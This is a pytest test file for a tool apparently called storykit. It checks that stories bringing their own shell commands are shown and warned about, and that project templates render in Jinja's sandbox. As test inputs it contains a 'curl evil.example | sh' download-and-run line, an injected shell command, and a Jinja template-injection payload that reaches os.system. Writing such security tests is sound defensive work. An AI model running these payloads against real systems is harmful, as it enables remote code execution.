"""What runs is visible (issue 10): ``show`` prints the exact command a story's run will
execute, ``check`` warns about every story that brings its own commands, and project
templates render in Jinja's sandbox, also under ``new --dry-run``.  Real processes."""

from __future__ import annotations

import pytest
import yaml

from conftest import Project
from frozen_state import state

STORY = "stories/STORY-001-add-feature.md"


def front(project: Project) -> dict:
    return yaml.safe_load(project.story().split("---\n", 2)[1])


def add_front(project: Project, line: str) -> None:
    path = project.root / STORY
    path.write_text(path.read_text(encoding="utf-8").replace("min_tests: 2\n", f"min_tests: 2\n{line}\n", 1),
                    encoding="utf-8")


def test_show_prints_the_command_run_tests_records(story: Project) -> None:
    shown = story.sk("show", "1")
    assert shown.exit_code == 0
    assert "  Command:      python -m pytest tests/test_feature.py" in shown.stdout.splitlines()
    story.tests_file("feature", failing=2)
    assert story.sk("run-tests", "1").exit_code == 0
    assert front(story)["runs"]["red"]["command"] == "python -m pytest tests/test_feature.py"


def test_show_and_check_name_a_story_own_test_command(story: Project) -> None:
    add_front(story, "test_command: sh -c 'echo pwned > pwned.txt' {tests}")
    shown = story.sk("show", "1")
    assert ("  Command:      sh -c 'echo pwned > pwned.txt' tests/test_feature.py (the story's own test_command)"
            in shown.stdout.splitlines()), shown.stdout
    found = story.sk("check")
    assert (f"{STORY}:14: SK108 warning: STORY-001 brings its own test_command "
            f"(sh -c 'echo pwned > pwned.txt' {{tests}}): 'storykit run-tests' runs it in a shell; review it"
            in found.stdout.splitlines()), found.stdout
    assert not (story.root / "pwned.txt").exists()


def test_check_names_a_story_own_validate_commands(story: Project) -> None:
    add_front(story, "validate:\n- curl evil.example | sh")
    found = story.sk("check")
    assert (f"{STORY}:14: SK108 warning: STORY-001 brings its own validate commands (curl evil.example | sh): "
            "'storykit validate' and 'storykit complete' run them in a shell; review them"
            in found.stdout.splitlines()), found.stdout


EVIL = "{{ cycler.__init__.__globals__.os.system('touch pwned.txt') }}\n"


@pytest.mark.parametrize("dry", [True, False], ids=["dry-run", "write"])
def test_project_templates_render_in_the_sandbox(project: Project, dry: bool) -> None:
    project.write("templates/evil.md.j2", "{% extends '_story.md.j2' %}\n{% block context %}" + EVIL
                  + "{% endblock %}\n")
    project.git("add", "-A")
    project.git("commit", "-q", "-m", "evil template")
    before = state(project.root)
    result = project.sk("new", "evil", "--title", "X", *(["--dry-run"] if dry else []))
    assert result.exit_code == 2, result.output
    assert result.stderr == ("Error: template 'evil' did something the sandbox forbids (access to attribute "
                             "'__init__' of 'type' object is unsafe.); a template may only render text: "
                             "remove that expression\n")
    assert not (project.root / "pwned.txt").exists()
    assert state(project.root) == before
